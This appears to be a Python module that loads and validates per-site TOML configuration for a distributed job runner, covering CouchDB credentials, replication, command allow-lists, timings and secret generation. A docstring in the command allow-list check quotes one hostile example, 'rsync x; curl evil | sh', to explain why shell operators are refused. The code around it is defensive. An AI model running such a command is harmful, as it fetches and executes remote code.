"""Site configuration: one TOML file per site (sites/NAME.toml), read into a
`SiteConfig` holding one frozen dataclass per table.

docs/operations.md ("Site settings") shows every key with an example. Each key is
read by its dataclass field (its type, or the reader its metadata names), whose
default is the one in force; a key that no field reads is refused, with the nearest
known one, since a misspelt setting would otherwise leave its default in force
without a word. Credentials come from files only their owner may read, or the
environment (docs/operations.md, "Security"), and a password never appears in a
repr, a log line or an error.

Every interval derived from the timings (and the relations they must keep) is in
timings.py (`SiteConfig.timings`). The keys [tuning] took over from [daemon] and
[keepalive] (DEPRECATED) are still read until 0.2, with a warning in the log.
"""

from __future__ import annotations

import math
import os
import re
import secrets
import tomllib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, fields, replace
from datetime import timedelta
from functools import cached_property
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from . import core
from .clock import parse_duration
from .errors import JobdistError
from .logs import EventLog
from .model import ALL, ANY
from .names import nearest_name
from .secret_files import read_credentials, read_token, write_credentials, write_secret
from .timings import Timings

DEFAULT_JOURNAL = Path(".jobdist") / "journal"  # [daemon] journal unset: from the working dir
SITE_NAME = re.compile(r"^[a-z0-9][a-z0-9_-]{0,63}$")
SHELL_OPERATORS = re.compile(r"[;&|$`<>()\n\r]")
log = EventLog("jobdist.config")

class ConfigError(JobdistError, ValueError):
    """A site configuration that cannot be used; the message says why and where."""


def known_settings(section: str) -> tuple[str, ...]:
    """The keys of a section; the top level's ("") include the sections."""
    return (*SETTINGS[""], *SECTIONS) if not section else SETTINGS[section]


def dotted(section: str, key: str) -> str:
    return f"{section}.{key}" if section else key


# How a setting's TOML value becomes its typed value: by the field's declared type
# (READERS), or by the reader its metadata names (`read`); a relative path is read from
# the config file's directory.

def _path(value: Any, config_path: Path) -> Path:
    path = Path(str(value)).expanduser()
    return path if path.is_absolute() else config_path.parent / path


def _flag(value: Any, _: Path) -> bool:
    if not isinstance(value, bool):
        raise ValueError(f"must be true or false, not {value!r}")
    return value


def _number(value: Any, _: Path) -> float:
    if isinstance(value, bool) or not isinstance(value, int | float):
        raise ValueError(f"must be a number, not {value!r}")
    if not math.isfinite(value):  # TOML has nan and inf; no timing can be either
        raise ValueError(f"must be a finite number, not {value!r}")
    return float(value)


def _count(value: Any, _: Path) -> int:
    if isinstance(value, bool) or not isinstance(value, int) or value < 0:
        raise ValueError(f"must be an integer >= 0, not {value!r}")
    return value


def _port(value: Any, _: Path) -> int:
    if isinstance(value, bool) or not isinstance(value, int) or not 0 <= value < 65536:
        raise ValueError(f"must be a port (0-65535; 0: any free one), not {value!r}")
    return value


def _url(value: Any, _: Path) -> str:
    """An http(s) URL whose host and port can be read (a request would fail on it later,
    with the library's words, or raise)."""
    text = str(value)
    try:
        parts = urlsplit(text)
        parts.port  # noqa: B018 -- reading it checks it
    except ValueError as error:
        raise ValueError(f"{text!r} is not a URL: {error}") from None
    if parts.scheme not in ("http", "https") or not parts.hostname:
        raise ValueError(f"{text!r} must be an http:// or https:// URL, e.g. "
                         "http://127.0.0.1:5984")
    return text


def _text(value: Any, _: Path) -> str:
    return str(value)


def _duration(value: Any, _: Path) -> timedelta:
    return parse_duration(str(value))


def _site_names(value: Any, _: Path) -> tuple[str, ...]:
    if not isinstance(value, list) or not all(isinstance(name, str) for name in value):
        raise ValueError(f"must be a list of site names, not {value!r}")
    return tuple(value)


READERS: dict[str, Callable[[Any, Path], Any]] = {
    "str": _text, "str | None": _text, "float": _number, "float | None": _number,
    "int": _count, "int | None": _count, "tuple[str, ...]": _site_names,
    "bool": _flag, "Path | None": _path, "timedelta | None": _duration,
}


def _site_name(value: Any, _: Path) -> str:
    if not isinstance(value, str) or not SITE_NAME.match(value):
        raise ValueError(f"{value!r} must be 1-64 of a-z, 0-9, _ and -")
    if value in (ANY, ALL):  # a step targeting it would run anywhere, or everywhere
        raise ValueError(f"{value!r} is a target that means "
                         f"{'any site' if value == ANY else 'every site'}: choose another")
    return value


def _peer_urls(value: Any, _: Path) -> dict[str, str]:
    if not isinstance(value, dict):
        raise ValueError(f"must be a table of site = url, not {value!r}")
    return {str(peer): str(url) for peer, url in value.items()}


def _allow_list(patterns: Any, _: Path) -> tuple[re.Pattern[str], ...]:
    if not isinstance(patterns, list) or not all(isinstance(p, str) for p in patterns):
        raise ValueError("must be a list of regular expressions")
    compiled = []
    for pattern in patterns:
        try:
            compiled.append(re.compile(pattern))
        except re.error as error:
            raise ValueError(f"bad pattern {pattern!r}: {error}") from None
    return tuple(compiled)


def _successors(table: Any, _: Path) -> dict[str, tuple[str, ...]]:
    """`{creator = [site, ...]}`: site names, none twice in a line, never the creator."""
    if not isinstance(table, dict):
        raise ValueError(f"must be a table of creator = [sites], not {table!r}")
    lines = {}
    for creator, line in table.items():
        if not SITE_NAME.match(creator):
            raise ValueError(f"{creator!r} is not a site name")
        if not isinstance(line, list) or not all(isinstance(name, str) and SITE_NAME.match(name)
                                                 for name in line):
            raise ValueError(f"{creator} must be a list of site names, not {line!r}")
        if creator in line or len(set(line)) != len(line):
            raise ValueError(f"a site appears twice in the line {[creator, *line]}")
        lines[creator] = tuple(line)
    return lines


def read_by(reader: Callable[[Any, Path], Any]) -> dict[str, Any]:
    """A field's metadata: `reader` reads it, whatever its type."""
    return {"read": reader}


# A field the loader fills in from elsewhere (a credentials file, the environment):
# no key of the file sets it.
DERIVED = {"derived": True}


@dataclass(frozen=True)
class CouchSettings:
    """[couch]: the site's CouchDB and how to log in to it."""

    url: str = field(default="", metadata=read_by(_url))
    database: str = "jobs"
    credentials: Path | None = None  # the site's user (daemon, replications)
    admin_credentials: Path | None = None  # only `jobdist setup` uses it
    user: str | None = None  # inline, without a credentials file
    password: str | None = field(default=None, repr=False)
    admin_user: str | None = field(default=None, metadata=DERIVED)
    admin_password: str | None = field(default=None, repr=False, metadata=DERIVED)

    @property
    def port(self) -> int:
        return urlsplit(self.url).port or 5984


@dataclass(frozen=True)
class ReplicationSettings:
    """[replication]: what a site pushes to its peers, and where it reaches them."""

    filtered: bool = False  # push to peers only the jobs that concern them
    relay: bool = False  # a hub: peers push everything here to pass on
    peer_urls: Mapping[str, str] = field(default_factory=dict, hash=False,  # reach a peer
                                         metadata=read_by(_peer_urls))  # elsewhere than its url


@dataclass(frozen=True)
class CommandSettings:
    """[commands]: which commands the site runs."""

    allow: tuple[re.Pattern[str], ...] | None = field(default=None, metadata=read_by(_allow_list))
    allow_shell: bool = False  # true: commands may also use the shell's operators

    def allows(self, command: str) -> bool:
        """May this site run `command` (its `[commands] allow` list, if any)?

        The shell runs the command, so with a list a command that chains, pipes,
        redirects or substitutes (`rsync x; curl evil | sh` matches `rsync .*`) is
        refused unless `allow_shell = true` says the patterns account for that.
        """
        if self.allow is None:
            return True
        if not self.allow_shell and SHELL_OPERATORS.search(command):
            return False
        return any(pattern.fullmatch(command) for pattern in self.allow)


@dataclass(frozen=True)
class DaemonSettings:
    """[daemon]: leases and stopping."""

    shutdown_grace: float = 10.0  # running steps get this long on SIGTERM
    lease: float = core.LEASE  # a winner's promise lasts this long unless renewed
    clock_skew_margin: float = core.SKEW_MARGIN  # the creator waits this much past a lease
    journal: Path | None = None  # results kept while CouchDB does not answer


@dataclass(frozen=True)
class TuningSettings:
    """[tuning]: internal knobs; the defaults are what we measured (timings.py)."""

    heartbeat: float | None = None  # lease renewals; None: a quarter of the lease
    booking_timeout: float = core.BOOKING_TIMEOUT  # give up a claim the creator has not decided
    # A step launched ahead that ends sooner has its start written with its end, in one
    # revision (plan_runner.PlanRunner.defers); 0: written at once. Timings.start_delay
    # bounds it.
    start_write_delay: float = 1.0
    keepalive_period: float = 5.0  # seconds between passes of the re-saver of open jobs
    keepalive_stale_after: float = 30.0  # it re-saves those unchanged for this long


@dataclass(frozen=True)
class RetentionSettings:
    """[retention]: the daemon removes its own old finished jobs when `older_than` is set."""

    older_than: timedelta | None = None  # finished jobs last updated longer ago
    interval: float = 3600.0  # seconds between passes
    export: Path | None = None  # append each job here before removing it


@dataclass(frozen=True)
class SuccessionSettings:
    """[succession]: per creator, the sites that take its live jobs over, in order, once
    it has been silent for creator_timeout (docs/protocol.md, "Automatic succession")."""

    successors: Mapping[str, tuple[str, ...]] = field(default_factory=dict, hash=False,
                                                      metadata=read_by(_successors))
    creator_timeout: float = core.CREATOR_TIMEOUT


@dataclass(frozen=True)
class AdminSettings:
    """[admin]: the daemon's HTTP endpoint (none without a port)."""

    port: int | None = field(default=None, metadata=read_by(_port))
    host: str = "127.0.0.1"
    token: str | None = field(default=None, repr=False)  # or $JOBDIST_ADMIN_TOKEN
    token_file: Path | None = None  # written by `jobdist secrets` and `jobdist cluster up`


# The config's tables, and the dataclass each is read into: the one list of sections.
SECTIONS: dict[str, type] = {
    "couch": CouchSettings,
    "replication": ReplicationSettings,
    "commands": CommandSettings,
    "daemon": DaemonSettings,
    "retention": RetentionSettings,
    "succession": SuccessionSettings,
    "admin": AdminSettings,
    "tuning": TuningSettings,
}

# Keys [tuning] took over: still read from their old place for one release, with a
# warning in the log (a site config in the field must not break), until 0.2.
DEPRECATED: dict[tuple[str, str], str] = {
    ("daemon", "booking_timeout"): "booking_timeout",
    ("daemon", "heartbeat"): "heartbeat",
    ("daemon", "start_write_delay"): "start_write_delay",
    ("keepalive", "period"): "keepalive_period",
    ("keepalive", "stale_after"): "keepalive_stale_after",
}
_warned: set[tuple[Path, str]] = set()  # (config, key) whose deprecation was logged


@dataclass(frozen=True)
class SiteConfig:
    name: str = field(metadata=read_by(_site_name))
    couch: CouchSettings
    workers: int = 2
    peers: tuple[str, ...] = ()
    replication: ReplicationSettings = field(default_factory=ReplicationSettings)
    commands: CommandSettings = field(default_factory=CommandSettings)
    daemon: DaemonSettings = field(default_factory=DaemonSettings)
    retention: RetentionSettings = field(default_factory=RetentionSettings)
    succession: SuccessionSettings = field(default_factory=SuccessionSettings)
    admin: AdminSettings = field(default_factory=AdminSettings)
    tuning: TuningSettings = field(default_factory=TuningSettings)
    path: Path | None = field(default=None, metadata=DERIVED)

    @cached_property
    def timings(self) -> Timings:
        """Every timing the daemon keeps, from the settings (timings.py): read them here."""
        daemon, tuning = self.daemon, self.tuning
        return Timings(lease=daemon.lease, clock_skew_margin=daemon.clock_skew_margin,
                       creator_timeout=self.succession.creator_timeout,
                       tuned_heartbeat=tuning.heartbeat,
                       booking_timeout=tuning.booking_timeout,
                       start_write_delay=tuning.start_write_delay,
                       keepalive_period=tuning.keepalive_period,
                       keepalive_stale_after=tuning.keepalive_stale_after)

    def require_credentials(self) -> None:
        """ConfigError when the config names a credentials file that is not there (and
        the environment gives no user): carrying on would run, or set replications
        up, without logging in."""
        couch = self.couch
        if couch.credentials is not None and couch.user is None \
                and not couch.credentials.exists():
            raise ConfigError(f"{self.path}: the credentials file {couch.credentials} does "
                              "not exist: run `jobdist secrets` (or `jobdist cluster up`, "
                              "which writes it)")

    def journal_dir(self) -> Path:
        """Where the daemon keeps the results its CouchDB did not take yet: a directory
        of its own, so sites sharing a host (and a configured path) never share one."""
        return (self.daemon.journal or DEFAULT_JOURNAL) / self.name


def _keys(cls: type) -> tuple[str, ...]:
    return tuple(f.name for f in fields(cls) if not f.metadata.get("derived")
                 and f.name not in SECTIONS)


# Every key a site config may hold, by section ("": the top level, besides the
# sections), derived from the dataclasses that loading fills field by field: what
# is read and what is accepted cannot drift.
SETTINGS: dict[str, tuple[str, ...]] = {
    "": _keys(SiteConfig), **{name: _keys(cls) for name, cls in SECTIONS.items()}}


def load_site(path: Path | str) -> SiteConfig:
    path = Path(path)
    try:
        raw = tomllib.loads(path.read_text())
    except FileNotFoundError:
        raise ConfigError(f"{path}: no such site config") from None
    except UnicodeDecodeError:
        raise ConfigError(f"{path}: cannot read site config: not UTF-8 text") from None
    except (OSError, tomllib.TOMLDecodeError) as error:
        raise ConfigError(f"{path}: cannot read site config: {error}") from None
    try:
        _move_deprecated(raw, path)
        _check_known(raw)
        return _site_from(raw, path)
    except (TypeError, ValueError) as error:
        raise ConfigError(f"{path}: {error}") from None


def load_sites(directory: Path | str) -> dict[str, SiteConfig]:
    """Every site config of a sites directory, by name; peers must name known sites."""
    directory = Path(directory)
    if not directory.is_dir():
        raise ConfigError(f"{directory}: no such sites directory")
    sites = {}
    for path in sorted(directory.glob("*.toml")):
        site = load_site(path)
        if site.name in sites:
            raise ConfigError(f"{path}: site name {site.name!r} is used twice")
        sites[site.name] = site
    if not sites:
        raise ConfigError(f"{directory}: no site configs (*.toml) found")
    for site in sites.values():
        unknown = sorted(set(site.peers) - set(sites))
        if unknown:
            raise ConfigError(f"{site.path}: unknown peers {', '.join(unknown)}")
        named = {name for creator, line in site.succession.successors.items()
                 for name in (creator, *line)}
        unknown = sorted(named - set(sites))
        if unknown:
            raise ConfigError(f"{site.path}: succession.successors names unknown sites "
                              f"{', '.join(unknown)}")
    return sites


def _move_deprecated(raw: dict[str, Any], path: Path) -> None:
    """Move each DEPRECATED key of `raw` to its place in [tuning], with a warning; a
    [keepalive] left empty goes too. A key set in both places is refused."""
    for (section, key), new_key in DEPRECATED.items():
        table = raw.get(section)
        if not isinstance(table, dict) or key not in table:
            continue
        tuning = raw.setdefault("tuning", {})
        if not isinstance(tuning, dict):
            return  # (refused as not a table when read)
        if new_key in tuning:
            raise ValueError(f"{dotted(section, key)} and tuning.{new_key} are the same "
                             f"setting: keep tuning.{new_key}")
        tuning[new_key] = table.pop(key)
        if (path, key) not in _warned:  # once a process: `site run` reads its config twice
            _warned.add((path, key))
            log.warning("deprecated setting, read until 0.2 only",
                        site=raw.get("name"), setting=dotted(section, key),
                        write_as=f"tuning.{new_key}", config=path)
    if raw.get("keepalive") == {}:
        del raw["keepalive"]


def _check_known(raw: dict[str, Any]) -> None:
    """ValueError naming every key that SETTINGS does not list, each with a hint."""
    unknown = [_unknown_setting("", key) for key in raw if key not in known_settings("")]
    for section in SETTINGS:
        values = raw.get(section) if section else None
        if isinstance(values, dict):
            unknown += [_unknown_setting(section, key) for key in values
                        if key not in SETTINGS[section]]
    if unknown:
        raise ValueError("; ".join(unknown))


def _unknown_setting(section: str, key: str) -> str:
    """`unknown setting 'daemon.leese' (did you mean 'daemon.lease'?)`: the nearest key
    of the same section, else the section where this very key belongs."""
    nearest = nearest_name(key, known_settings(section))
    hint: str | None
    if nearest is not None:
        hint = dotted(section, nearest)
    else:
        hint = next((dotted(other, key) for other in SETTINGS
                     if other != section and key in SETTINGS[other]), None)
    suffix = f" (did you mean {hint!r}?)" if hint else ""
    return f"unknown setting {dotted(section, key)!r}{suffix}"


def _site_from(raw: dict[str, Any], path: Path) -> SiteConfig:
    values = _read(SiteConfig, "", raw, path)
    if "name" not in values:
        raise ValueError("missing setting 'name'")
    if not values["couch"].url:
        raise ValueError("missing setting 'couch.url'")
    name, couch, admin = values["name"], values["couch"], values["admin"]
    user, password = _login(couch.user, couch.password, couch.credentials, "JOBDIST_COUCH",
                            name)
    admin_user, admin_password = _login(None, None, couch.admin_credentials,
                                        "JOBDIST_COUCH_ADMIN", name)
    values["couch"] = replace(couch, user=user, password=password, admin_user=admin_user,
                              admin_password=admin_password)
    values["admin"] = replace(admin, token=admin.token or os.environ.get("JOBDIST_ADMIN_TOKEN")
                              or read_token(admin.token_file))
    site = SiteConfig(path=path, **values)
    site.timings.check()
    return site


def _read(cls: type, section: str, table: Any, path: Path) -> dict[str, Any]:
    """The values `table` sets of `cls`'s fields, each read by its field's reader, and each
    section's dataclass from its own table; a key left out is left to the dataclass's
    default (the one place defaults are written)."""
    if not isinstance(table, dict):
        raise ValueError(f"{section} must be a table ([{section}]), not {table!r}")
    values = {}
    for item in fields(cls):
        if cls is SiteConfig and item.name in SECTIONS:
            section_cls = SECTIONS[item.name]
            values[item.name] = section_cls(**_read(section_cls, item.name,
                                                    table.get(item.name, {}), path))
        elif item.name in table and not item.metadata.get("derived"):
            read = item.metadata.get("read") or READERS[str(item.type)]
            try:
                values[item.name] = read(table[item.name], path)
            except (TypeError, ValueError) as error:
                raise ValueError(f"{dotted(section, item.name)}: {error}") from None
    return values


def _login(user: str | None, password: str | None, credentials: Path | None,
           env_prefix: str, site: str) -> tuple[str | None, str | None]:
    """(user, password): the environment (PREFIX_USER_SITE before PREFIX_USER), else the
    credentials file, else inline keys."""
    if credentials is not None and credentials.exists():
        user, password = read_credentials(credentials)
    return (_env(f"{env_prefix}_USER", site) or user,
            _env(f"{env_prefix}_PASSWORD", site) or password)


def _env(name: str, site: str) -> str | None:
    return os.environ.get(f"{name}_{site.upper()}") or os.environ.get(name)


def ensure_credentials(sites: dict[str, SiteConfig], sites_dir: Path) -> dict[str, SiteConfig]:
    """Write the secrets files the site configs name but nobody has written yet (a user
    per site, one admin, the admin token), then read the configs again to pick them up."""
    written = False
    for site in sites.values():
        wanted = ((site.couch.credentials, f"jobdist_{site.name}"),
                  (site.couch.admin_credentials, "admin"))
        for path, user in wanted:
            if path is not None and not path.exists():
                write_credentials(path, user, secrets.token_urlsafe(24))
                written = True
        if site.admin.token_file is not None and not site.admin.token_file.exists():
            write_secret(site.admin.token_file, secrets.token_urlsafe(24) + "\n")
            written = True
    return load_sites(sites_dir) if written else sites
